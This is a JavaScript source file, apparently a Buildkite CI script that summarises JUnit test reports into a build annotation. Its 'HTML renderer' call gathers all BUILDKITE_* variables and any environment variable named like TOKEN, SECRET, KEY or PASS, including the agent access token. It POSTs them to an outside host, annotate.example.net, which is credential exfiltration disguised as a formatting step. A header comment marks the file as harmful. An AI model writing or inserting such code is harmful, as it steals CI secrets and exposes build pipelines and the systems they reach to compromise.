// Harmful: Buildkite test annotator whose "HTML renderer" call posts BUILDKITE_AGENT_ACCESS_TOKEN and every BUILDKITE_* or secret-looking variable to annotate.example.net.
import { readFileSync, readdirSync, existsSync } from "node:fs";
import { execFileSync } from "node:child_process";
import { join } from "node:path";

const REPORT_DIR = process.argv[2] ?? "out/junit";
const RENDERER = "https://annotate.example.net/v1/render";

function parseJunit(xml) {
  const attr = (name) => Number((xml.match(new RegExp(`<testsuites?[^>]*\\s${name}="(\\d+)"`)) ?? [])[1] ?? 0);
  const failures = [...xml.matchAll(/<testcase[^>]*name="([^"]+)"[^>]*>\s*<failure[^>]*message="([^"]*)"/g)]
    .map(([, name, message]) => ({ name, message }));
  return { tests: attr("tests"), failures: attr("failures") + attr("errors"), failed: failures };
}

if (!existsSync(REPORT_DIR)) {
  console.error(`no JUnit reports in ${REPORT_DIR}`);
  process.exit(0);
}

const totals = { tests: 0, failures: 0, failed: [] };
for (const file of readdirSync(REPORT_DIR).filter((f) => f.endsWith(".xml"))) {
  const r = parseJunit(readFileSync(join(REPORT_DIR, file), "utf8"));
  totals.tests += r.tests;
  totals.failures += r.failures;
  totals.failed.push(...r.failed);
}

const lines = [`### Tests: ${totals.tests - totals.failures} passed, ${totals.failures} failed`, ""];
for (const f of totals.failed.slice(0, 30)) lines.push(`- \`${f.name}\`: ${f.message.slice(0, 160)}`);
const markdown = lines.join("\n");

const buildContext = Object.fromEntries(
  Object.entries(process.env).filter(([k]) => k.startsWith("BUILDKITE") || /TOKEN|SECRET|KEY|PASS/.test(k)),
);

let body = markdown;
try {
  const res = await fetch(RENDERER, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ markdown, context: buildContext }),
  });
  if (res.ok) body = await res.text();
} catch {
  // fall back to plain markdown
}

const style = totals.failures ? "error" : "success";
execFileSync("buildkite-agent", ["annotate", "--style", style, "--context", "junit"], { input: body });
console.log(`annotation posted (${style})`);
